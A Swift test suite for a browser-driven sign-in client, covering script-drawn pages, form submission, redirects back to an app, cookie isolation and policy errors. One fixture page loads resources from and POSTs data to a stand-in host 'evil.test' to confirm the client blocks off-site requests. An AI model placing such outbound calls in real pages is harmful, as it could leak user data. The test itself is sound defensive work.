import BrowserEngine
import Encodings
import HostedDialect
import JourneyClient
import JourneyModel
import Testing

/// Pages whose scripts do what plain HTTP cannot, in a real browser.
@Suite(
  .serialized,
  .enabled(if: ScriptedSite.programs != nil, "no Chromium and chromedriver on this machine: apt-get install chromium chromium-driver"))
struct ScriptedPagesTests {
  private typealias Site = ScriptedSite

  @Test func `a page that only its script draws is read, and what it hides is hidden`() async throws {
    let script = """
      <style>.off {display: none}</style><main id=app></main><script>setTimeout(() => {
        app.innerHTML = '<h1>Drawn</h1><form method=post action=/next><label>Name <input name=name></label>'
          + '<label class=off>Trap <input name=trap></label><button>Go</button></form>';
      }, 200)</script>
      """
    try await Site.walk(["GET /authorize": Site.page(script)]) { driver, site in
      let screen = try Site.screen(try await driver.perform(.start(StartParameters())))
      #expect(screen.id.text == "/authorize#drawn")
      let form = try #require(screen.forms.first)
      #expect(form.widgets.first { $0.id.text == "name" }?.isVisible == true)
      #expect(form.widgets.first { $0.id.text == "trap" }?.isVisible == false)
      #expect(site.requests.last { $0.url.path == "/authorize" }?.headers["x-test"] == "on")
    }
  }

  @Test func `a form is filled in and sent, and a password never shows`() async throws {
    let form = """
      <form method=post action=/login><input name=user><input name=pass type=password><input type=checkbox name=keep>
      <input type=hidden name=token value=t1><select name=size><option>S<option>M</select><button name=go value=1>Sign in</button></form>
      """
    let pages = [
      "GET /authorize": Site.page(form), "POST /login": Site.redirect(to: "com.example.app:/callback?code=c&state=s", status: 303),
    ]
    try await Site.walk(pages) { driver, site in
      _ = try await driver.perform(.start(StartParameters()))
      let secret = Secret("Jane-horse-11", name: "password", source: .project)
      let turn = try await driver.perform(
        Site.submission("/login", ["user": .text("jane"), "pass": .secret(secret), "keep": .bool(true), "size": .text("M")]))
      #expect(turn.now == .ended(.completed))
      let posted = try #require(site.requests.last { $0.method == "POST" })
      #expect(String(decoding: posted.body, as: UTF8.self) == "user=jane&pass=Jane-horse-11&keep=on&token=t1&size=M&go=1")
      #expect(!"\(turn)".contains("Jane-horse"))
      #expect(!"\(turn)".contains("t1"))
      #expect("\(turn)".contains("jane"))
    }
  }

  @Test(arguments: [
    "<script>location.replace('com.example.app:/callback?code=c')</script>",
    "<p>Please wait, you are led back to the app in a moment.<script>setTimeout(() => location.href = 'com.example.app:/callback?code=c', 100)</script>",
    "<meta http-equiv=refresh content='0;url=com.example.app:/callback?code=c'>",
  ])
  func `the way back to the app is caught whatever leads there`(body: String) async throws {
    try await Site.walk(["GET /authorize": Site.page(body)]) { driver, _ in
      let first = try await driver.perform(.start(StartParameters()))
      // The browser goes on in a fresh tab.
      let second = try await driver.perform(.start(StartParameters()))
      #expect([first.now, second.now] == [.ended(.completed), .ended(.completed)])
    }
  }

  @Test(arguments: ["location.hash = Math.random()", "history.pushState(0, '', '?' + Math.random())"])
  func `a page that goes on and on without leaving is read`(script: String) async throws {
    let body = "<form method=post action=/login><button>Go</button></form><script>setInterval(() => \(script), 50)</script>"
    try await Site.walk(["GET /authorize": Site.page(body)]) { driver, _ in
      let screen = try Site.screen(try await driver.perform(.start(StartParameters())))
      #expect(screen.forms.count == 1)
    }
  }

  @Test func `a page that submits itself while it is filled in is not sent twice`() async throws {
    let form = """
      <form method=post action=/code><input name=code oninput="if (value.length == 6) form.submit()"><button>Go</button></form>
      """
    try await Site.walk(["GET /authorize": Site.page(form), "POST /code": Site.page("<h1>Done</h1>")]) { driver, site in
      _ = try await driver.perform(.start(StartParameters()))
      let turn = try await driver.perform(Site.submission("/code", ["code": .text("123456")]))
      #expect(try Site.screen(turn).id.text == "/code#done")
      #expect(site.requests.count { $0.method == "POST" } == 1)
    }
  }

  @Test func `a policy that stops the way back is named`() async throws {
    let form = "<form method=post action=/login><button>Go</button></form>"
    let pages = [
      "GET /authorize": Site.page(form, headers: ["Content-Security-Policy": "form-action 'self'"]),
      "POST /login": Site.redirect(to: "com.example.app:/callback?code=secret-code"),
    ]
    try await Site.walk(pages) { driver, _ in
      _ = try await driver.perform(.start(StartParameters()))
      let error = await #expect(throws: DriverError.self) { try await driver.perform(Site.submission("/login", [:])) }
      #expect(error?.message.contains("form-action 'self'") == true, "\(String(describing: error))")
      #expect(error?.message.contains("secret-code") == false)
    }
  }

  @Test func `nothing is requested elsewhere`() async throws {
    let body = """
      <h1>Home</h1><img src=https://evil.test/a.png><script src=https://evil.test/b.js></script><a id=out href=https://evil.test/out>Out</a>
      <script>fetch('http://127.0.0.1:9/x').catch(() => 0); fetch('https://evil.test/c', {method: 'POST', body: 'x'}).catch(() => 0)</script>
      """
    try await Site.walk(["GET /authorize": Site.page(body)]) { driver, site in
      let turn = try await driver.perform(.start(StartParameters()))
      #expect(turn.warnings.contains { $0.contains("'https://evil.test") })
      guard case .handover(let handover) = try await driver.perform(Site.submission("out", [:])).now else {
        Issue.record("no hand-over")
        return
      }
      #expect(handover.url == "https://evil.test/out")
      #expect(site.requests.allSatisfy { $0.url.host == "id.acme.test" })
    }
  }

  @Test func `cookies stay with a browser and not with another one`() async throws {
    let pages = ["GET /authorize": Site.page("<h1>Home</h1>", headers: ["Set-Cookie": "__Host-s=1; Secure; HttpOnly; Path=/"])]
    try await Site.walk(pages) { driver, site in
      _ = try await driver.perform(.start(StartParameters()))
      _ = try await driver.perform(.refresh)
      _ = try await driver.perform(.start(StartParameters(keys: [Value.Member("session", "ephemeral")])))
      let cookies = site.requests.filter { $0.url.path == "/authorize" }.map { $0.headers["cookie"] }
      #expect(cookies == [nil, "__Host-s=1", nil])
    }
  }

  @Test func `a cookie ends by the tenant's clock`() async throws {
    let pages = ["GET /authorize": Site.page("<h1>Home</h1>", headers: ["Set-Cookie": "s=1; Secure; Max-Age=60"])]
    try await Site.walk(pages) { driver, site in
      _ = try await driver.perform(.start(StartParameters()))
      _ = try await driver.perform(.refresh)
      site.pass(.seconds(61))
      _ = try await driver.perform(.refresh)
      let cookies = site.requests.filter { $0.url.path == "/authorize" }.map { $0.headers["cookie"] }
      #expect(cookies == [nil, "s=1", nil])
    }
  }

  @Test func `an error of the server is told as by plain HTTP`() async throws {
    try await Site.walk(["GET /authorize": Site.page("<h1>Oops</h1>", status: 503)]) { driver, _ in
      let error = await #expect(throws: DriverError.self) { try await driver.perform(.start(StartParameters())) }
      #expect(error?.kind == .status)
    }
  }
}
